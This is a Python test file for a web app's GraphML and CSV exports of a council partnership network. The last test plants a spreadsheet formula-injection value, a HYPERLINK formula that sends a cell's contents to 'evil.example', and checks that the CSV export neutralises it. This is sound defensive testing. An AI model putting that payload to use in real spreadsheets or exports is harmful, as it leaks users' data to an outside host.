"""The Network page's exports of the current view (webapp/exports.py): the GraphML opens in a
GraphML reader with exactly the view's nodes and relationships and their properties, and the
CSV stays safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import networkx as nx
import pytest

from graphmodel.stores import EmbeddedStore
from loaders import read_register
from webapp import views as V
from webapp.context import PageContext
from webapp.exports import view_csv, view_graphml
from webapp.pages import network

MINI = Path(__file__).parent / "fixtures" / "mini"
EVIL = '=HYPERLINK("http://evil.example/?"&A1, "Click")'


@pytest.fixture(scope="module")
def view(bundled):
    store = EmbeddedStore()
    store.replace(bundled.graph)
    return V.GraphView(store)


def parse(text: str) -> nx.MultiDiGraph:
    return nx.read_graphml(io.BytesIO(text.encode("utf-8")), force_multigraph=True)


def drawn(elements: list[dict]) -> tuple[set[str], set[tuple[str, str, str]]]:
    nodes = {el["data"]["id"] for el in elements if "source" not in el["data"]}
    edges = {
        (el["data"]["source"], el["data"]["target"], el["data"]["id"])
        for el in elements
        if "source" in el["data"]
    }
    return nodes, edges


def test_graphml_holds_exactly_the_filtered_view(view):
    # drawn as the page draws it: elements with their places
    page = PageContext(view=view, store=view.store)
    elements, _ = network.draw(page, V.Filters(tiers=["strategic"]), None, 1, [])
    g = parse(view_graphml(view, elements))
    nodes, edges = drawn(elements)
    assert set(g.nodes) == nodes and len(nodes) > 20
    assert set(g.edges(keys=True)) == edges and len(edges) > 20
    # a strategic link is in, an exploring one is not
    assert "kent-commonwealth-of-virginia" in g and "kent-region-of-kosice" not in g
    virginia = g.nodes["commonwealth-of-virginia"]
    assert virginia["label"] == "Commonwealth of Virginia"
    assert virginia["kind"] == "Organisation" and virginia["in_register"] is True
    # lists are text: the sources, by the papers' titles, joined as in the CSV
    assert "KCC International Activities Annual Report 2006/7" in virginia["sources"]
    assert ".txt" not in virginia["sources"]
    link = g.nodes["kent-commonwealth-of-virginia"]
    assert link["tier"] == "strategic" and link["kind"] == "Partnership"
    # relationships carry their type and sources from the store
    has = [d for u, v, d in g.edges(data=True) if d["type"] == "HAS_PARTNERSHIP"]
    assert has and all(d["in_register"] is True and d["sources"] for d in has)
    # places as drawn, for Gephi's layout
    assert all(isinstance(d.get("x"), float) for _, d in g.nodes(data=True))


def test_graphml_of_a_summarised_view_marks_what_the_page_added(view):
    """At a small budget the page counts partners by country: those group nodes and their
    links are in the export, marked as not in the register."""
    elements, message = V.network_elements(
        view, V.Filters(), focus="kent-county-council", hops=2, budget=60
    )
    g = parse(view_graphml(view, elements))
    nodes, edges = drawn(elements)
    assert set(g.nodes) == nodes and set(g.edges(keys=True)) == edges
    groups = [n for n, d in g.nodes(data=True) if d["kind"] == "Group"]
    assert groups, message
    assert all(g.nodes[n]["in_register"] is False for n in groups)
    assert all(d["in_register"] is False for *_, d in g.in_edges(groups, data=True))


def test_graphml_survives_what_a_browser_could_send(view):
    """Text XML cannot hold, values of mixed types and nested values, and edges whose ends
    are not in the view: the file still parses, holding what is drawn."""
    elements = [
        {"data": {"id": "kent-county-council"}, "position": {"x": 1, "y": 2.5}},
        {"data": {"id": "group-x", "label": "bell\x07 and tab\x0b", "kind": {"a": [1]}}},
        {"data": {"id": "group-y", "label": 7, "kind": "Group"}},
        {"data": {"id": "e1", "source": "kent-county-council", "target": "group-x", "type": "X"}},
        {"data": {"id": "e2", "source": "kent-county-council", "target": "nowhere"}},
        {"data": {"id": "e3", "source": ["a"], "target": "group-x"}},
    ]
    g = parse(view_graphml(view, elements))
    assert set(g.nodes) == {"kent-county-council", "group-x", "group-y"}
    assert [k for *_, k in g.edges(keys=True)] == ["e1"]
    assert g.nodes["group-x"]["label"] == "bell and tab"
    assert isinstance(g.nodes["group-x"]["kind"], str)
    assert g.nodes["group-y"]["label"] == "7"
    assert g.nodes["kent-county-council"]["x"] == 1.0
    # at most ``limit`` elements are read
    assert set(parse(view_graphml(view, elements, limit=1)).nodes) == {"kent-county-council"}


def test_the_views_csv_neutralises_formulas(tmp_path):
    folder = tmp_path / "register"
    shutil.copytree(MINI, folder)
    text = (folder / "register.yaml").read_text(encoding="utf-8")
    text = text.replace(
        "name: Commonwealth of Virginia,", f"name: '{EVIL.replace(chr(39), chr(39) * 2)}',"
    )
    (folder / "register.yaml").write_text(text, encoding="utf-8")
    store = EmbeddedStore()
    store.replace(read_register(folder).graph)
    view = V.GraphView(store)
    elements, _ = V.network_elements(view, V.Filters(), budget=1500)
    rows = list(csv.reader(io.StringIO(view_csv(view, elements))))
    assert rows[0][:3] == ["element", "id", "kind"]
    cells = [c for row in rows for c in row]
    assert "'" + EVIL in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    nodes, edges = drawn(elements)
    assert sum(r[0] == "node" for r in rows) == len(nodes)
    assert sum(r[0] == "relationship" for r in rows) == len(edges) > 0
